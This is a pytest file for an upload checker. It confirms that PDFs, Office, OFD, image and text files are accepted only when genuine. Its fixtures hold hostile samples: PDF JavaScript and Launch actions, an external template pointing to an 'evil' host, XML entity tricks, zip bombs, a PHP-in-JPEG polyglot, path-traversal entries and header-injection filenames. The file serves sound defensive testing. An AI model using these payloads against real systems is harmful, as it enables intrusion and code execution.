"""Files that are not what they say, that do too much, or that would fill the machine."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.kernel.documents.factories import (
    JPEG,
    PNG,
    changed,
    pdf_of,
    plain_pdf,
    word_document,
    workbook,
)
from yingshang.kernel.documents.api import RefusedFile, check_upload
from yingshang.kernel.documents.kinds import LONGEST_NAME, usable_name
from yingshang.kernel.documents.reading import inspect_pdf

OFD = changed(word_document(), {"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>'})


WHOLE = (word_document(), workbook(), PNG, OFD)


def _zip(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as container:
        for name, content in entries:
            container.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", plain_pdf()),
        ("A.PDF", pdf_of()),
        ("合同.docx", word_document()),
        ("a.xlsx", workbook()),
        ("发票.ofd", OFD),
        ("a.png", PNG),
        ("a.jpeg", JPEG),
        ("a.txt", "营商环境".encode("gb18030")),
        ("a.txt", "营商环境".encode("utf-16")),
    ],
)
def test_honest_files_are_taken(name: str, content: bytes) -> None:
    check_upload(content=content, name=name)


def _active(action: bytes) -> bytes:
    return pdf_of(action, catalog=b"/OpenAction 4 0 R")


def _in_object_stream(content: bytes) -> bytes:
    packed = zlib.compress(b"4 0 " + content)
    return pdf_of(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed)
    )


_JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
_ATTACHED = b'<Relationships><Relationship Id="r" Type="http://x/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/></Relationships>'


def _overlapping() -> bytes:
    """Two entries of the directory that share one piece of packed bytes."""
    whole = bytearray(_zip(("a", b"x" * 2000), ("b", b"x" * 2000)))
    directory = struct.unpack_from("<I", whole, len(whole) - 6)[0]
    second = directory + 46 + 1
    struct.pack_into("<I", whole, second + 42, 0)
    return bytes(whole)


def _lying(container: bytes) -> bytes:
    """The last entry unpacks to more than the directory says."""
    whole = bytearray(container)
    place = whole.rfind(b"PK\x01\x02")
    struct.pack_into("<I", whole, place + 24, 10)
    return bytes(whole)


def _encrypted_zip() -> bytes:
    content = bytearray(word_document())
    directory = struct.unpack_from("<I", content, len(content) - 6)[0]
    struct.pack_into("<H", content, directory + 8, struct.unpack_from("<H", content, directory + 8)[0] | 1)
    return bytes(content)


@pytest.mark.parametrize(
    ("reason", "name", "content"),
    [
        ("empty", "a.txt", b""),
        ("kind", "a.exe", b"MZ"),
        ("kind", "a", b"words"),
        ("kind", "a.docm", word_document()),
        ("kind", "page.html", b"<html></html>"),
        ("kind", "picture.svg", b"<svg onload='x'/>"),
        ("name", "../../..", b"words"),
        # What the name says is not so.
        ("content", "a.pdf", word_document()),
        ("content", "a.pdf", b"\n%PDF-1.7 behind a line\n%%EOF"),
        ("content", "a.docx", workbook()),
        ("content", "a.xlsx", word_document()),
        ("content", "a.docx", _zip(("a.txt", b"words"))),
        ("content", "a.docx", plain_pdf()),
        ("content", "a.ofd", word_document()),
        ("content", "a.png", JPEG),
        ("content", "a.jpg", b"<script>alert(1)</script>"),
        ("content", "a.txt", plain_pdf()),
        ("content", "a.txt", b"a\x00b"),
        ("content", "a.txt", bytes(range(256))),
        # Locked.
        ("encrypted", "a.docx", _OLE),
        ("encrypted", "a.xlsx", _encrypted_zip()),
        ("encrypted", "a.pdf", pdf_of(b"<< /Filter /Standard /V 2 /R 3 >>", trailer=b"/Encrypt 4 0 R")),
        # Something runs.
        ("active", "a.pdf", _active(_JAVASCRIPT)),
        ("active", "a.pdf", _active(_JAVASCRIPT.replace(b"/JavaScript", b"/J#61va#53cript"))),
        ("active", "a.pdf", _active(b"<< /S /Launch /F (cmd.exe) >>")),
        ("active", "a.pdf", _in_object_stream(_JAVASCRIPT)),
        ("active", "a.pdf", _active(b"<< /S /GoToE /F (x) >>")),
        ("active", "a.docx", changed(word_document(), {"word/vbaProject.bin": b"x"})),
        ("active", "a.docx", changed(word_document(), {"word/activeX/activeX1.xml": b"<x/>"})),
        ("active", "a.docx", changed(word_document(), {"word/_rels/settings.xml.rels": _ATTACHED})),
        ("active", "a.docx", changed(word_document(), {"word/document.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"})),
        ("active", "a.docx", changed(word_document(), {"word/document.xml": b" " * 9000 + b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"})),
        ("active", "a.docx", changed(word_document(), {"word/document.xml": b"<!-- <a> -->" + b" " * 9000 + b"<!DOCTYPE x><x/>"})),
        ("active", "a.docx", changed(word_document(), {"word/document.xml": b"<?x <a?><!doctype x><x/>"})),
        ("active", "a.ofd", changed(OFD, {"Doc_0/Document.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"})),
        ("encoding", "a.docx", changed(word_document(), {"word/document.xml": "<!DOCTYPE x><x/>".encode("utf-16")})),
        ("encoding", "a.docx", changed(word_document(), {"word/document.xml": "<!DOCTYPE x><x/>".encode("utf-16-le")})),
        ("encoding", "a.docx", changed(word_document(), {"word/document.xml": b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE x><x/>"})),
        ("damaged", "a.docx", changed(word_document(), {"word/document.xml": b"<!-- never closed" + b" " * 9000})),
        ("damaged", "a.docx", changed(word_document(), {"word/document.xml": b" " * 30_000})),
        ("damaged", "a.docx", _lying(changed(word_document(), {"word/media/x.bin": bytes(range(256)) * 80}))),
        # Too much inside.
        ("bomb", "a.ofd", changed(OFD, {"Doc_0/x.bin": b"\x00" * 20_000_000})),
        ("bomb", "a.xlsx", changed(workbook(), {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>aaaaaaaaaa</t></si>" * 500_000 + b"</sst>"})),
        ("bomb", "a.docx", changed(word_document(), {"word/media/x.bin": b"\x00" * 20_000_000})),
        ("bomb", "a.xlsx", _overlapping()),
        # Two formats at once.
        ("two_formats", "a.pdf", plain_pdf() + word_document() + b"%%EOF"),
        ("two_formats", "a.docx", changed(word_document(), {}, comment=b"%PDF-1.7 and more")),
        ("two_formats", "a.docx", plain_pdf()[:0] + word_document() + b"trailing"),
        ("two_formats", "a.png", PNG + word_document()),
        ("two_formats", "a.jpg", JPEG[:20] + b"<?php system('id') ?>" + JPEG[20:]),
        # Broken.
        ("damaged", "a.pdf", b"%PDF-1.7\nnothing more"),
        ("damaged", "a.pdf", b"%PDF-1.7\n" + b"\x00" * 2000 + b"%%EOF"),
        ("damaged", "a.docx", word_document()[:2000]),
        ("damaged", "a.docx", changed(word_document(), {"../../etc/cron.d/x": b"x"})),
        ("damaged", "a.png", PNG[:30]),
    ],
)  # fmt: skip
def test_hostile_files_are_refused_with_the_reason(reason: str, name: str, content: bytes) -> None:
    with pytest.raises(RefusedFile) as refused:
        check_upload(content=content, name=name)
    assert refused.value.details["reason"] == reason, refused.value.message
    assert refused.value.message_zh != refused.value.message


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8' standalone='yes'?>\r\n<!-- made by -- <!DOCTYPE> --><w:x/>",
        b"\n<?a?><?b?><!-- " + b"long " * 3000 + b"--><x/>",
        "<文档/>".encode(),
    ],
)
def test_what_may_stand_before_the_first_element(content: bytes) -> None:
    check_upload(content=changed(word_document(), {"customXml/item1.xml": content}), name="a.docx")


def test_what_is_taken_can_be_narrowed_and_widened() -> None:
    with pytest.raises(RefusedFile, match=r"give one of \.pdf"):
        check_upload(content=word_document(), name="a.docx", allowed=["pdf"])
    check_upload(content=b"<p>x</p>", name="a.html", allowed=["html"])
    with pytest.raises(KeyError):
        check_upload(content=b"x", name="a.exe", allowed=["exe"])


def test_too_large_is_known_before_all_is_read() -> None:
    read = 0

    class Endless:
        def read(self, size: int) -> bytes:
            nonlocal read
            read += size
            return b"x" * size

    with pytest.raises(RefusedFile, match="larger than 2 MB"):
        check_upload(content=Endless(), name="a.txt", largest=2_000_000)
    assert read < 4_000_000


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        (r"C:\secret\合同.pdf", "合同.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie_ x.txt"),
        ("invoice\u202efdp.txt", "invoicefdp.txt"),
        ("  .a.txt. ", "a.txt"),
        ("长" * 300 + ".pdf", "长" * (LONGEST_NAME - 4) + ".pdf"),
    ],
)
def test_names_are_made_usable(given: str, kept: str) -> None:
    assert usable_name(given) == kept


@given(st.text(max_size=200))
def test_any_name_is_made_usable_or_refused(name: str) -> None:
    try:
        made = usable_name(name)
    except RefusedFile:
        return
    assert made == usable_name(made)
    assert not {"/", "\\"} & set(made) and len(made) <= LONGEST_NAME
    assert not {unicodedata.category(each) for each in made} & {"Cc", "Cf", "Cs", "Zl", "Zp"}


@given(st.data())
def test_a_changed_file_is_taken_or_refused_and_nothing_else(data: st.DataObject) -> None:
    whole = data.draw(st.sampled_from(WHOLE))
    name = {b"P": "a.docx"}.get(whole[:1], "a.png")
    at = data.draw(st.integers(0, len(whole) - 1))
    length = data.draw(st.integers(0, 30))
    broken = whole[:at] + data.draw(st.binary(max_size=30)) + whole[at + length :]
    try:
        check_upload(content=broken, name=name)
    except RefusedFile as refused:
        assert refused.message_zh


@pytest.mark.parametrize("wrap", [lambda text: text, lambda text: text.replace(b"/", b"\n/")])
def test_what_stands_in_words_of_the_page_does_not_count(wrap: Callable[[bytes], bytes]) -> None:
    # The text of a page is packed; only names of the structure are looked for.
    packed = zlib.compress(b"BT (about /JavaScript and /Launch) Tj ET")
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    assert inspect_pdf(wrap(pdf_of(content))) == "fine"
